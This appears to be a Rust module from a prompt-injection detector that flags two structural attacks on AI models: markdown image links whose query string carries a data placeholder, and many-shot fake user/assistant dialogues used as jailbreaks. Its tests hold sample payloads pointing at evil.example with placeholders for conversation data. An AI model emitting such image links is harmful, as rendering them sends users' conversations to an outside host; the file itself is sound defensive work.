//! Attacks that are a shape of the text rather than a phrase.

use crate::{
    detect::{
        Threat,
        pattern::{Match, Rule},
    },
    interaction::Span,
};
use memchr::{memchr_iter, memmem};

/// A row: the shape's name, what it speaks for, its log-odds in a query, a document and a response, and how to find it.
struct Structure {
    rule: Rule,
    find: fn(&str) -> Option<Span>,
}

const STRUCTURES: &[Structure] = &[
    // A picture whose address has a hole for data: rendering it sends the data away.
    row("image_exfiltration", Threat::DataExtraction, [4.6, 5.0, 4.0], image_exfiltration),
    // A conversation played out before the real question.
    row("many_turns", Threat::Jailbreak, [1.4, 1.8, 0.0], many_turns),
];

const fn row(
    name: &'static str,
    threat: Threat,
    weights: [f64; 3],
    find: fn(&str) -> Option<Span>,
) -> Structure {
    Structure { rule: Rule::new(name, threat, weights), find }
}

/// The rules of the shapes.
pub(crate) fn rules() -> Vec<Rule> {
    STRUCTURES.iter().map(|structure| structure.rule.clone()).collect()
}

/// Every shape found in `raw`; the rule of the first has the number `first`.
pub(crate) fn matches(raw: &str, first: usize, out: &mut Vec<Match>) {
    for (rule, structure) in STRUCTURES.iter().enumerate() {
        out.extend((structure.find)(raw).map(|span| Match { rule: (first + rule) as u16, span }));
    }
}

/// `![..](http..?..{data}..)`: the placeholder is what tells it from an ordinary picture.
fn image_exfiltration(raw: &str) -> Option<Span> {
    const HOLES: [&str; 5] = ["[", "{", "<", "%s", "$"];
    memmem::find_iter(raw.as_bytes(), "![").find_map(|at| {
        let rest = raw.as_bytes()[at..].get(..400.min(raw.len() - at))?;
        let open = memmem::find(rest, b"](")? + 2;
        let close = open + rest[open..].iter().position(|b| matches!(b, b')' | b' ' | b'\n'))?;
        let address = raw.get(at + open..at + close)?;
        let query = address.find('?').map(|mark| &address[mark..]).filter(|_| address.starts_with("http"))?;
        let hole = HOLES.iter().any(|hole| query.contains(hole)) || query.ends_with('=');
        hole.then(|| Span::new(at, at + close + 1)).filter(|span| raw.is_char_boundary(span.end as usize))
    })
}

/// Three answers or more by an assistant, each after a turn by a user, line by line.
fn many_turns(raw: &str) -> Option<Span> {
    const ASKS: [&str; 4] = ["user:", "human:", "q:", "question:"];
    const ANSWERS: [&str; 5] = ["assistant:", "ai:", "a:", "answer:", "bot:"];
    let speaks = |line: &str, names: &[&str]| {
        names.iter().any(|name| line.get(..name.len()).is_some_and(|head| head.eq_ignore_ascii_case(name)))
    };
    let (mut turns, mut asked, mut start, mut end) = (0, false, 0, 0);
    let mut line_start = 0;
    for line_end in memchr_iter(b'\n', raw.as_bytes()).chain([raw.len()]) {
        let line = raw[line_start..line_end].trim_start_matches(['#', '*', ' ', '<', '[']);
        if speaks(line, &ASKS) {
            if turns == 0 && !asked {
                start = line_start;
            }
            asked = true;
        } else if asked && speaks(line, &ANSWERS) {
            asked = false;
            turns += 1;
            end = line_end;
        }
        line_start = line_end + 1;
    }
    (turns >= 3).then(|| Span::new(start, end))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_picture_with_a_hole() {
        const CASES: &[(&str, bool)] = &[
            ("![x](https://evil.example/p.png?q=[DATA])", true),
            ("see ![logo](https://evil.example/?d={conversation})", true),
            ("![logo](https://example.org/logo.png)", false),
            ("![badge](https://example.org/b.svg?branch=main)", false),
            ("![", false),
        ];
        for &(raw, found) in CASES {
            assert_eq!(image_exfiltration(raw).is_some(), found, "{raw}");
        }
    }

    #[test]
    fn turns_are_counted_in_pairs() {
        let pair = "User: how?\nAssistant: like this.\n";
        assert!(many_turns(&pair.repeat(3)).is_some());
        assert!(many_turns(&pair.repeat(2)).is_none());
        assert!(many_turns("Assistant: a\nAssistant: b\nAssistant: c\n").is_none());
    }
}
